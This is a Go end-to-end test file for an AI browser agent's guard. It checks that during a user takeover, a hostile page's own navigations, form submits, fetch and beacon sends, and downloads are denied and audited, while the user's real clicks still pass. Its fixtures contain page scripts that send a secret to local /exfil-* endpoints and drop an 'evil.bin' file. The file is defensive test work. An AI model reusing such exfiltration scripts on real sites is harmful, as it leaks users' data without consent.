package e2e

import (
	"fmt"
	"net/http"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// armScript defines whenArmed(f): f runs once the test says the takeover is
// in force (GET /armed answers 1). A GET is never judged, so the page
// waits the same way on the old code and the new.
// The fetches overlap on a loaded machine: f runs once however many see 1.
const armScript = `<script>function whenArmed(f){let done=false;const i=setInterval(async()=>{try{const r=await fetch('/armed',{cache:'no-store'});if((await r.text())==='1'&&!done){done=true;clearInterval(i);f()}}catch(e){}},100)}</script>`

// hostileTakeover is a headful lyrad with a hostile site A (the page the
// agent navigated to, so the session holds NAVIGATE there) and a site B
// nobody granted, which counts what reaches it. Sends are judged.
type hostileTakeover struct {
	t       *testing.T
	a, b, c *site
	armed   atomic.Bool
	dir     string
	home    string
	tmp     string
	display string
	cs      *mcp.ClientSession
}

func newHostileTakeover(t *testing.T) *hostileTakeover {
	needBrowser(t)
	h := &hostileTakeover{t: t, display: startXvfb(t)}
	h.a, h.b, h.c = newSite(t, "127.0.0.1"), newSite(t, "127.0.0.2"), newSite(t, "127.0.0.3")
	h.a.handle("/armed", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Cache-Control", "no-store")
		if h.armed.Load() {
			fmt.Fprint(w, "1")
			return
		}
		fmt.Fprint(w, "0")
	})
	ok := func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<!doctype html><title>reached</title>reached`)
	}
	for _, s := range []*site{h.b, h.c} {
		for _, p := range []string{"/exfil-timer", "/exfil-meta", "/exfil-form", "/exfil-fetch", "/exfil-beacon", "/user-form", "/login"} {
			s.handle(p, ok)
		}
	}
	file := func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Header().Set("Content-Disposition", `attachment; filename="evil.bin"`)
		w.Header().Set("Content-Length", fmt.Sprint(len(dlBody)))
		w.Write(dlBody)
	}
	h.a.handle("/file-a", file)
	h.a.handle("/file-nav", file)
	h.a.handle("/file-user", file)
	h.dir = t.TempDir()
	var env []string
	h.home, h.tmp, env = dlEnv(t)
	ask := &asker{}
	h.cs = connectAsking(t, h.dir, proto2026, ask.handle, append(env, "LYRA_BROWSER_HEADLESS=auto", "DISPLAY="+h.display,
		"LYRA_BROWSER_GUARD_SENDS=judge", "LYRA_BROWSER_CONSENT_TIMEOUT=120")...)
	return h
}

func (h *hostileTakeover) do(name string, args map[string]any) map[string]any {
	h.t.Helper()
	return call(h.t, h.cs, name, args)
}

// takeover loads A's page at path as the agent, hands the window to the
// user, and then lets the page loose.
func (h *hostileTakeover) takeover(path, html string) {
	h.t.Helper()
	h.armed.Store(false)
	h.a.page(path, html)
	wantStatus(h.t, h.do("navigate", map[string]any{"url": h.a.URL + path}), "ok")
	wantStatus(h.t, h.do("request_takeover", map[string]any{"reason": "Type your password"}), "takeover_active")
	h.armed.Store(true)
}

// resume hands the window back (the user says yes).
func (h *hostileTakeover) resume() {
	h.t.Helper()
	wantStatus(h.t, h.do("resume_after_takeover", nil), "ok")
}

// guardRows are the audit's guard rows for requests to s at path.
func (h *hostileTakeover) guardRows(s *site, path, status string) []map[string]any {
	var out []map[string]any
	for _, r := range rowsWhere(auditRows(h.t, h.dir), has{"kind": "guard", "status": status}) {
		if u, _ := r["request_url"].(string); strings.HasPrefix(u, s.URL+path) {
			out = append(out, r)
		}
	}
	return out
}

// settle waits until the request to s at path either reached it or was
// refused by the guard: the test then counts, with no race against a
// clock.
func (h *hostileTakeover) settle(s *site, path string) int {
	h.t.Helper()
	waitFor(h.t, path+" reached or refused", 40*time.Second, func() bool {
		return s.count(path) > 0 || len(h.guardRows(s, path, "deny")) > 0
	})
	time.Sleep(300 * time.Millisecond) // a straggler, if one were coming
	return s.count(path)
}

// TestTakeoverHostilePageJudged: while the user holds the window, what a
// hostile page does by itself is judged as when the agent drives: its
// timer's navigation, a meta refresh, a script's form submit to a site
// nobody granted reach it 0 times, each audited deny not_granted, never
// user_driven.
func TestTakeoverHostilePageJudged(t *testing.T) {
	h := newHostileTakeover(t)
	B := h.b.URL
	for _, c := range []struct{ name, path, html, dest string }{
		{"timer", "/timer", armScript + `<title>t</title><script>whenArmed(()=>setTimeout(()=>{location.href='` + B + `/exfil-timer?d=secret'},100))</script>`, "/exfil-timer"},
		{"meta refresh", "/meta", armScript + `<title>m</title><script>whenArmed(()=>document.head.insertAdjacentHTML('beforeend','<meta http-equiv=refresh content="0;url=` + B + `/exfil-meta?d=secret">'))</script>`, "/exfil-meta"},
		{"form auto-submit", "/form", armScript + `<title>f</title><form id=f method=post action="` + B + `/exfil-form"><input name=d value=secret></form><script>whenArmed(()=>document.getElementById('f').submit())</script>`, "/exfil-form"},
	} {
		h.takeover(c.path, c.html)
		n := h.settle(h.b, c.dest)
		t.Logf("%s: %d requests reached the ungranted site", c.name, n)
		if n != 0 {
			t.Errorf("%s during a takeover: %d requests reached the ungranted site, want 0", c.name, n)
		}
		for _, r := range rowsWhere(auditRows(t, h.dir), has{"kind": "guard", "user_driven": true}) {
			if u, _ := r["request_url"].(string); strings.HasPrefix(u, B+c.dest) {
				t.Errorf("%s: audited user_driven: %v", c.name, r)
			}
		}
		if rows := h.guardRows(h.b, c.dest, "deny"); len(rows) == 0 || rows[0]["reason"] != "not_granted" {
			t.Errorf("%s: deny rows %v", c.name, rows)
		}
		h.resume()
	}
}

// TestTakeoverHostileSendsJudged: with sends judged, a hostile page's own
// fetch and beacon to a site nobody granted, during a takeover, reach it
// 0 times, audited deny.
func TestTakeoverHostileSendsJudged(t *testing.T) {
	h := newHostileTakeover(t)
	B := h.b.URL
	h.takeover("/sends", armScript+`<title>s</title><script>whenArmed(()=>{fetch('`+B+`/exfil-fetch',{method:'POST',body:'d=secret',mode:'no-cors'});navigator.sendBeacon('`+B+`/exfil-beacon','d=secret')})</script>`)
	sendRows := func(status string) int {
		return len(rowsWhere(auditRows(t, h.dir), has{"kind": "send", "destination": B, "status": status}))
	}
	waitFor(t, "both sends reached or refused", 40*time.Second, func() bool {
		return h.b.count("/exfil-fetch")+h.b.count("/exfil-beacon") >= 2 || sendRows("deny") >= 2
	})
	time.Sleep(300 * time.Millisecond)
	n := h.b.count("/exfil-fetch") + h.b.count("/exfil-beacon")
	t.Logf("sends: %d of 2 reached the ungranted site; deny rows %d", n, sendRows("deny"))
	if n != 0 {
		t.Errorf("%d of the page's own sends reached the ungranted site during a takeover, want 0", n)
	}
	if sendRows("deny") < 2 {
		t.Errorf("deny rows for the sends: %d, want 2", sendRows("deny"))
	}
	h.resume()
}

// TestTakeoverHostileDownloadBlocked: during a takeover a download the
// page starts by itself (a script's <a download> click, a timer's
// navigation to an attachment, a blob) is blocked like an undeclared one:
// 0 bytes of the served files on disk, watched while it runs, nothing
// kept, each audited blocked.
func TestTakeoverHostileDownloadBlocked(t *testing.T) {
	h := newHostileTakeover(t)
	mark := dlBody[:4096]
	blobMark := []byte(strings.Repeat("LYRAD-TAKEOVER-BLOB-", 200))
	dlDir := filepath.Join(h.dir, "downloads")
	stopWatch := watchDisk([]string{h.tmp, filepath.Join(h.home, "Downloads"), dlDir}, mark)
	stopBlobWatch := watchDisk([]string{h.tmp, filepath.Join(h.home, "Downloads"), dlDir}, blobMark)
	h.takeover("/dl", armScript+`<title>d</title><script>whenArmed(()=>{
const x=document.createElement('a');x.href='/file-a';x.download='evil.bin';document.body.append(x);x.click();
setTimeout(()=>{const b=new Blob(['`+string(blobMark)+`']);const y=document.createElement('a');y.href=URL.createObjectURL(b);y.download='made.bin';document.body.append(y);y.click()},500);
setTimeout(()=>{location.href='/file-nav'},1000)})</script>`)
	waitFor(t, "three downloads blocked or kept", 40*time.Second, func() bool {
		return len(downloadRows(t, h.dir, "blocked"))+len(downloadRows(t, h.dir, "user_driven")) >= 3
	})
	time.Sleep(500 * time.Millisecond)
	seen := stopWatch()
	blobSeen := stopBlobWatch()
	var bytes int64
	for _, n := range keptFiles(t, dlDir) {
		bytes += n
	}
	t.Logf("downloads: served %d (/file-a %d), guard rows for /file-a %d, blocked rows %d, kept %d bytes, files that held a served file %v, the blob %v",
		h.a.count("/file-a")+h.a.count("/file-nav"), h.a.count("/file-a"), len(rowsWhere(auditRows(t, h.dir), has{"kind": "guard", "request_url": h.a.URL + "/file-a"})), len(downloadRows(t, h.dir, "blocked")), bytes, seen, blobSeen)
	if bytes != 0 || len(seen) != 0 {
		t.Errorf("the page's own downloads reached the disk during a takeover: %d bytes kept, files %v", bytes, seen)
	}
	// A blob has no request to hold: the browser's deny behaviour cancels
	// it, as any undeclared blob outside a takeover, and Chrome may write
	// it to its temporary file for the moment before the cancel (README,
	// "How the browser is guarded"), which is in lyrad's incoming folder
	// inside the download dir. Nowhere else, and never kept.
	incoming := filepath.Join(h.dir, "downloads", ".incoming-")
	for _, f := range blobSeen {
		if !strings.HasPrefix(f, incoming) || !strings.HasPrefix(filepath.Base(f), ".org.chromium.") {
			t.Errorf("the page's blob reached %s", f)
			continue
		}
		t.Logf("the page's blob was in Chrome's temporary file until the cancel: %s", f)
	}
	for _, root := range []string{h.tmp, h.home, dlDir} {
		if left := append(filesHolding(t, root, mark), filesHolding(t, root, blobMark)...); len(left) != 0 {
			t.Errorf("a copy of the page's downloads is left on disk: %v", left)
		}
	}
	if rows := downloadRows(t, h.dir, "blocked"); len(rows) != 3 {
		t.Errorf("blocked rows %d, want 3: %v", len(rows), jsonString(rows))
	}
	if n := len(downloadRows(t, h.dir, "user_driven")); n != 0 {
		t.Errorf("user_driven download rows %d, want 0", n)
	}
	h.resume()
}

// TestTakeoverUserActsPass: the user's own acts at the window still pass,
// exactly once each, audited user_driven with nothing spent: a real click
// on a link to a site nobody granted (where that site's page then posts to
// itself by fetch, as a login does, and tries a third site, refused; its
// own script's navigation is refused too, nobody granted it), a
// real click on a form's submit button that posts there, and a real click
// on a link to a file, which is kept.
func TestTakeoverUserActsPass(t *testing.T) {
	h := newHostileTakeover(t)
	B := h.b.URL
	h.b.page("/user-link", `<!doctype html><title>B</title><script>
fetch('/login',{method:'POST',body:'pw=1'});
fetch('`+h.c.URL+`/exfil-fetch',{method:'POST',body:'d=secret',mode:'no-cors'});
setTimeout(()=>{location.href='/b-next'},300);</script>`)
	h.b.page("/b-next", `<!doctype html><title>B next</title>`)
	userRows := func(s *site, path string) []map[string]any {
		var out []map[string]any
		for _, r := range h.guardRows(s, path, "allow") {
			if r["reason"] == "user_driven" {
				out = append(out, r)
			}
		}
		return out
	}

	h.takeover("/user", `<!doctype html><title>u</title>`+fixedStyle+`<a class=hit href="`+B+`/user-link">Continue</a>`)
	u := newUserHand(t, h.display, h.cs)
	u.click(30, 25)
	waitFor(t, "the user's navigation", 40*time.Second, func() bool { return h.b.count("/user-link") > 0 })
	waitFor(t, "the landing page's sends", 40*time.Second, func() bool {
		return h.b.count("/login") > 0 && (h.c.count("/exfil-fetch") > 0 ||
			len(rowsWhere(auditRows(t, h.dir), has{"kind": "send", "destination": h.c.URL, "status": "deny"})) > 0)
	})
	time.Sleep(300 * time.Millisecond)
	t.Logf("user link: %d, its site's own fetch %d, to a third site %d", h.b.count("/user-link"), h.b.count("/login"), h.c.count("/exfil-fetch"))
	if n := h.b.count("/user-link"); n != 1 {
		t.Errorf("the user's click reached the site %d times, want 1", n)
	}
	if rows := userRows(h.b, "/user-link"); len(rows) != 1 || rows[0]["spent"] != nil {
		t.Errorf("the user's navigation audited %v, want one user_driven row, nothing spent", rows)
	}
	if n := h.b.count("/login"); n != 1 {
		t.Errorf("the site the user went to posted to itself %d times, want 1", n)
	}
	if n := h.c.count("/exfil-fetch"); n != 0 {
		t.Errorf("the site the user went to sent to a third site %d times, want 0", n)
	}
	// Its own script moving it on is not the user's act: refused as the
	// agent's would be (nobody granted B), as the README says.
	if n := h.settle(h.b, "/b-next"); n != 0 {
		t.Errorf("the landing page's own script navigation reached its site %d times, want 0 (README: refused)", n)
	}
	h.resume()

	h.takeover("/userform", `<!doctype html><title>uf</title>`+fixedStyle+`<form method=post action="`+B+`/user-form"><input name=q value=1><button class=hit>Send</button></form>`)
	u.click(30, 25)
	waitFor(t, "the user's form post", 40*time.Second, func() bool { return h.b.count("/user-form") > 0 })
	waitFor(t, "its audit row", 20*time.Second, func() bool { return len(h.guardRows(h.b, "/user-form", "allow")) > 0 })
	time.Sleep(300 * time.Millisecond)
	if n := h.b.count("/user-form"); n != 1 {
		t.Errorf("the user's form reached the site %d times, want 1", n)
	}
	if rows := userRows(h.b, "/user-form"); len(rows) != 1 || rows[0]["spent"] != nil {
		t.Errorf("the user's post audited %v, want one user_driven row, nothing spent", rows)
	}
	h.resume()

	h.takeover("/userdl", `<!doctype html><title>ud</title>`+fixedStyle+`<a class=hit href="/file-user">Get the file</a>`)
	u.click(30, 25)
	waitDownloadRows(t, h.dir, "user_driven", 1)
	dlDir := filepath.Join(h.dir, "downloads")
	if got := keptFiles(t, dlDir); len(got) != 1 || got["evil.bin"] != int64(len(dlBody)) {
		t.Errorf("the user's download: kept %v, want evil.bin of %d bytes", got, len(dlBody))
	}
	h.resume()
}
